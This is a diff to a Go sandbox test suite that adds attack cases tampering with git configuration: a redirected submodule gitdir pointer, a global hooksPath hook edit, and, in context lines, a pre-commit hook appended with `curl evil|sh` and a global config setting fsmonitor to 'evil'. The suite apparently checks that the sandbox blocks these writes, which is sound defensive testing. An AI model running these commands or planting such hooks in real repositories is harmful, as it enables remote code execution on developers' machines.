@@ -188,6 +188,19 @@ var attacks = []attack{
 	{name: "F-12/husky", config: writeDot,
 		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); e.Write(".husky/pre-commit", "npm test\n") },
 		script: `echo 'curl evil|sh' >> .husky/pre-commit`, worked: changed(".husky/pre-commit", "npm test\n")},
+	{name: "F-11/submodule-gitdir-pointer", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			gitInit(t, e)
+			e.Write(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = ./lib\n")
+			e.Write("lib/.git", "gitdir: ../.git/modules/lib\n")
+		},
+		script: `echo 'gitdir: ../.cache/evil' > lib/.git`, worked: changed("lib/.git", "gitdir: ../.git/modules/lib\n")},
+	{name: "F-12/global-hooks-path", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("~/.gitconfig", "[core]\n\thooksPath = "+e.Path("hooks")+"\n")
+			e.Write("hooks/pre-commit", "#!/bin/sh\nexit 0\n")
+		},
+		script: `echo id >> hooks/pre-commit`, worked: changed("hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
 	{name: "F-13/global-git-config", config: writeDotAndHome,
 		script: `mkdir -p ~/.config/git && printf '[core]\n\tfsmonitor = evil\n' > ~/.config/git/config`, worked: exists("~/.config/git/config")},
 	{name: "F-15/local-bin", config: writeDotAndHome,
